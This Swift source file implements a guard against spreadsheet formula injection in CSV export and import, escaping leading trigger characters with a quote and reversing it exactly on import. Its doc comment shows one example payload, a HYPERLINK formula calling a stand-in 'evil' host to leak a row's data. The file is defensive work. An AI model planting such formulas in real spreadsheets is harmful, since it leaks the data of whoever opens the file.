/// Spreadsheet formula injection: a cell that starts with `=`, `+`, `-`, `@`, a TAB or a CR is
/// run as a formula by Excel, LibreOffice and Sheets when the CSV is opened (a tracker named
/// `=HYPERLINK("http://evil/?"&A1)` would leak the row). Written with a leading `'` — which a
/// spreadsheet shows as "text" and hides — and the `'` taken off again on import, so the round
/// trip through `--format csv` and `clicktrax import` is exact.
///
/// Exact also for values that themselves start with quotes before such a character: any run of
/// `'` followed by a trigger gets one more, and import takes one off only in that same case.
public enum CSVFormulaGuard {
    static let triggers: Set<Character> = ["=", "+", "-", "@", "\t", "\r"]

    /// The value as written to a CSV cell.
    public static func neutralise(_ value: String) -> String {
        needsQuote(value[...]) ? "'" + value : value
    }

    /// A cell's value as read back from a CSV file.
    public static func restore(_ cell: String) -> String {
        guard cell.first == "'", needsQuote(cell.dropFirst()) else { return cell }
        return String(cell.dropFirst())
    }

    static func needsQuote(_ value: Substring) -> Bool {
        guard let first = value.first(where: { $0 != "'" }) else { return false }
        return triggers.contains(first)
    }
}
